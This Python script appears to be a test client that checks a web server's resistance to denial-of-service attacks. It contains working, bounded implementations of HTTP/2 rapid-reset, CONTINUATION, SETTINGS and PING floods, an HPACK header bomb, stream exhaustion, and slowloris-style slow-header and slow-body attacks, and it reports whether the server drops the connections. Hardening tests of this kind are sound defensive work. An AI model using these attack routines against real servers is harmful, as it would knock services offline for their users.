#!/usr/bin/env python3
"""A client that means ill, or only counts heads; prints one value as JSON.

    attacker.py ATTACK HOST PORT COUNT   so many connections; {"ended": those that the other side ended}
    attacker.py heads HOST PORT SIZE     what a request with a head of SIZE bytes is answered, and says
    attacker.py steady HOST PORT PAUSE   requests in turn until input ends; {"asked", "served", "failures"}

Every attack sends a bounded number of bytes and ends within 25 seconds.
"""

import json
import select
import socket
import struct
import sys
import threading
import time

TIMEOUT = 25
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, PING, CONTINUATION, DATA, WINDOW = 1, 3, 4, 6, 9, 0, 8
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string of HPACK, without Huffman's code (RFC 7541 section 5.2)."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, coded = len(value) - 127, bytearray([127])
    while rest > 127:
        coded.append(rest % 128 | 128)
        rest //= 128
    return bytes(coded) + bytes([rest]) + value


def block(path=b"/", method=b"\x82"):
    return method + b"\x86" + b"\x04" + text(path) + b"\x01" + text(b"talker")


def connect(host, port):
    connection = socket.create_connection((host, port), timeout=TIMEOUT)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def two(host, port, settings=b""):
    """A connection of HTTP/2 on which both sides' SETTINGS are in force."""
    connection = connect(host, port)
    connection.sendall(PREFACE + frame(SETTINGS, payload=settings))
    for kind, flags, _, _ in frames(connection):
        if kind == SETTINGS and not flags & ACK:
            connection.sendall(frame(SETTINGS, ACK))
            return connection
    raise ConnectionError("no SETTINGS came")


def frames(connection):
    """What comes, until it ends."""
    pending = b""
    while part := connection.recv(65_536):
        pending += part
        while len(pending) >= 9 and len(pending) >= 9 + (size := int.from_bytes(pending[:3])):
            stream = int.from_bytes(pending[5:9]) & 0x7fffffff
            yield pending[3], pending[4], stream, pending[9:9 + size]
            pending = pending[9 + size:]


def ended(connection):
    """Whether the other side ends it in time."""
    try:
        while connection.recv(65_536):
            pass
        return True
    except TimeoutError:
        return False
    except OSError:
        return True


def streams(count):
    return range(1, 2 * count, 2)


def flood(name, host, port):
    connection = two(host, port)
    open_one = frame(HEADERS, END_HEADERS, 1, block(method=b"\x83"))
    # An entry of 4,000 bytes in the table, and a byte for each of the 12,000 times that it is meant.
    bomb = block() + b"\x40" + text(b"a") + text(b"b" * 4000) + b"\xbe" * 12_000
    try:
        connection.sendall({
            "rapid-reset": lambda: b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, one, block(b"/slow"))
                + frame(RESET, stream=one, payload=b"\0\0\0\x08") for one in streams(2000)),
            "continuation-flood": lambda: frame(HEADERS, 0, 1, block())
            + frame(CONTINUATION, 0, 1, b"\x10\x01a\x01b") * 5000,
            "settings-flood": lambda: frame(SETTINGS) * 50_000,
            "ping-flood": lambda: frame(PING, payload=b"12345678") * 50_000,
            "empty-frames": lambda: open_one + frame(DATA, stream=1) * 5000,
            "idle-frames": lambda: open_one + frame(WINDOW, stream=1, payload=b"\0\0\0\x01") * 30_000,
            "too-many-streams": lambda: b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, one, block(b"/slow")) for one in streams(300)),
            "header-bomb": lambda: frame(HEADERS, END_HEADERS | END_STREAM, 1, bomb),
        }[name]())
    except OSError:
        return True
    return ended(connection)


def slow_head(host, port):
    connection = connect(host, port)
    connection.sendall(b"GET / HTTP/1.1\r\nhost: talker\r\nx-slow: ")
    connection.settimeout(0.3)
    deadline, answer = time.monotonic() + TIMEOUT, b""
    while time.monotonic() < deadline:
        try:
            part = connection.recv(4096)
            answer += part
            if not part:
                return answer.startswith(b"HTTP/1.1 408 ")
        except TimeoutError:
            connection.sendall(b"a")
        except OSError:
            return answer.startswith(b"HTTP/1.1 408 ")
    return False


def slow_body(host, port):
    connection = connect(host, port)
    connection.sendall(b"POST / HTTP/1.1\r\nhost: talker\r\ncontent-length: 100\r\n\r\na")
    first = connection.recv(4096)
    return first.startswith(b"HTTP/1.1 408 ") and ended(connection)


def unread(host, port):
    """Asks for a lot on many streams with windows of nothing: true when each of them is reset."""
    connection, number, reset = two(host, port, b"\0\x04\0\0\0\0"), 90, set()
    connection.sendall(b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, one, block(b"/large/1")) for one in streams(number)))
    try:
        for kind, _, stream, _ in frames(connection):
            if kind == RESET:
                reset.add(stream)
            if len(reset) == number:
                return True
    except OSError:
        pass
    return False


def attack(name, host, port, count):
    outcomes = []
    run = {"slow-head": slow_head, "slow-body": slow_body, "unread": unread}.get(name)

    def one():
        outcomes.append(run(host, port) if run else flood(name, host, port))

    threads = [threading.Thread(target=one) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {"ended": sum(outcomes)}


def heads(host, port, size):
    """Of one request over each HTTP: the status, and the body of a refusal."""
    fields = [(f"x-filler-{number}".encode(), b"&" * min(16_000, size - start))
              for number, start in enumerate(range(0, size, 16_000))]
    return {"HTTP/1.1": heads_one(host, port, fields), "HTTP/2": heads_two(host, port + 1, fields)}


def heads_one(host, port, fields, path=b"/"):
    with connect(host, port) as connection:
        head = b"GET " + path + b" HTTP/1.1\r\nhost: talker\r\nconnection: close\r\n"
        try:
            connection.sendall(head + b"".join(b"%s: %s\r\n" % field for field in fields) + b"\r\n")
        except OSError:
            pass  # refused before it was whole
        answer = b""
        try:
            while part := connection.recv(65_536):
                answer += part
        except OSError:
            pass
    status = int(answer.split(b" ", 2)[1]) if answer else 0
    return [status, answer.partition(b"\r\n\r\n")[2].decode() if status >= 400 else ""]


def heads_two(host, port, fields, path=b"/"):
    with two(host, port) as connection:
        whole = block(path) + b"".join(b"\x10" + text(name) + text(value) for name, value in fields)
        parts = [whole[start:start + 16_384] for start in range(0, len(whole), 16_384)]
        sent = b""
        for number, part in enumerate(parts):
            last = END_HEADERS if number == len(parts) - 1 else 0
            kind, flags = (CONTINUATION, last) if number else (HEADERS, last | END_STREAM)
            sent += frame(kind, flags, 1, part)
        connection.sendall(sent)
        status, body = 0, b""
        for kind, flags, stream, payload in frames(connection):
            if stream != 1:
                continue
            if kind == HEADERS and not status:
                status = status_of(payload)
            if kind == DATA:
                body += payload
            if kind == RESET or kind in (HEADERS, DATA) and flags & END_STREAM:
                break
    return [status, body.decode() if status >= 400 else ""]


def status_of(payload):
    import hpack

    try:
        decoder = hpack.Decoder(max_header_list_size=4 << 20)
        return int(dict(decoder.decode(payload, raw=True))[b":status"])
    except hpack.HPACKError:
        # Cut: the block goes on in CONTINUATION. Statuses with a number of their own stand first.
        return {0x88: 200}.get(payload[0], 0)


def answers(host, port, size):
    path = b"/head/%d" % size
    return {"HTTP/1.1": heads_one(host, port, [], path), "HTTP/2": heads_two(host, port + 1, [], path)}


def steady(host, port, pause):
    asked = served = 0
    failures = []
    while not select.select([sys.stdin], [], [], pause)[0]:
        asked += 1
        try:
            status, said = heads_one(host, port, [])
            served += status == 200
            if status != 200:
                failures.append(f"{status} {said}")
        except OSError as error:
            failures.append(str(error))
    return {"asked": asked, "served": served, "failures": failures[:3]}


def main():
    name, host, port, number = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    others = {"heads": heads, "answers": answers}
    if name == "steady":
        return steady(host, port, number)
    if name in others:
        return others[name](host, port, int(number))
    return attack(name, host, port, int(number))


if __name__ == "__main__":
    print(json.dumps(main()))
